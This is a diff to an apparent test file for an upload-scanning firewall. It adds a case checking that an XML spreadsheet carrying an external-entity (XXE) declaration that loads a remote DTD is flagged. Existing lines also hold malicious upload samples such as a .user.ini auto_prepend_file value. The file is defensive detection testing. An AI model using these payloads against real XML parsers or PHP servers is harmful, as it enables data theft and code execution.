@@ -101,6 +101,11 @@ describe('multipart part names, spelt as lenient parsers (PHP among them) accept
     expect(uploaded('web.config', 'text/xml', '<configuration/>')).toContain('MaliciousUpload@multipart_filename');
     expect(uploaded('.user.ini', 'text/plain', 'auto_prepend_file=a.jpg')).toContain('MaliciousUpload@multipart_filename');
     expect(uploaded('photo.jpg', 'image/jpeg', 'JFIF\x00\x10<%\x01\x02 binary %> data')).toEqual([]);
+    // A document that opens as XML, whatever it is called (an XML spreadsheet named .xls)
+    expect(
+      uploaded('contacts.xls', 'application/vnd.ms-excel', '<?xml version="1.0"?><!DOCTYPE W [<!ENTITY % e SYSTEM "http://203.0.113.9/x.dtd"> %e;]><W/>'),
+    ).toContain('Xxe@upload');
+    expect(uploaded('contacts.xls', 'application/vnd.ms-excel', '<?xml version="1.0"?><Workbook><Row>1</Row></Workbook>')).toEqual([]);
     expect(uploaded('template.ejs', 'text/plain', '<p><%= user.name %></p>')).toEqual([]);
   });
 
